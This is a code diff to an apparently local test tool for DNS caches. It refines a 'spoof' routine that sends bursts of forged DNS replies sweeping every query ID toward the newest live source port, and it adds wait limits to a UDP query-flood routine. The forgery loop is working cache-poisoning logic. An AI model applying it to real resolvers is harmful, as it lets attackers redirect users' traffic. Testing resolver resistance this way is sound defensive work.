@@ -259,10 +259,14 @@ def spoof(args):
             stats["queries_seen"] += 1
             targets.setdefault((src, sport), set()).add(qid)
             nextid.setdefault((src, sport), 0)
-        # a burst of forgeries
+        # a burst of forgeries, the newest port first: the cache closes a
+        # query's socket when it tries again, so only the latest port is
+        # live, and on a loaded machine there is no time for the others
+        newest = list(targets)[-1:]
         for (src, sport), ids in list(targets.items()):
             dst = src if src != "0.0.0.0" else "127.0.0.1"
-            for _ in range(200):
+            live = (src, sport) in newest or nextid[newest[0]] >= 65536
+            for _ in range(200 if live else 0):
                 i = nextid[(src, sport)]
                 if i >= 65536:
                     break
@@ -284,6 +288,8 @@ def spoof(args):
                                    "127.0.0.1")
     th.join(timeout=seconds + 5)
     stats["targets"] = len(targets)
+    # ports that got every wrong ID (while the cache was waiting on them)
+    stats["swept"] = sum(1 for t in nextid if nextid[t] >= 65536)
     stats["forged_total"] = sum(v for k, v in stats.items() if k.startswith(("blind", "exact")))
     snmp1 = udp_snmp()
     for k in ("InDatagrams", "NoPorts", "InErrors", "RcvbufErrors"):
@@ -299,6 +305,10 @@ def spoof(args):
 def udpflood(args):
     cache, zone, count, probe, expect = args[0], args[1], int(args[2]), args[3], args[4]
     seconds = float(opt(args, "--seconds", 8))
+    # replies are awaited up to --wait seconds (a loaded machine is slow),
+    # and no longer once --enough of them carry an answer
+    wait = float(opt(args, "--wait", seconds))
+    enough = int(opt(args, "--enough", count))
     tag = "%x" % random.randrange(1 << 30)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
@@ -325,8 +335,8 @@ def udpflood(args):
         ids[struct.unpack(">H", q[:2])[0]] = i
         s.sendto(q, (cache, 53))
     replies = servfail = answered = 0
-    end = time.time() + seconds
-    while time.time() < end:
+    end = time.time() + wait
+    while time.time() < end and answered < enough:
         r, _, _ = select.select([s], [], [], max(0, end - time.time()))
         if not r:
             break
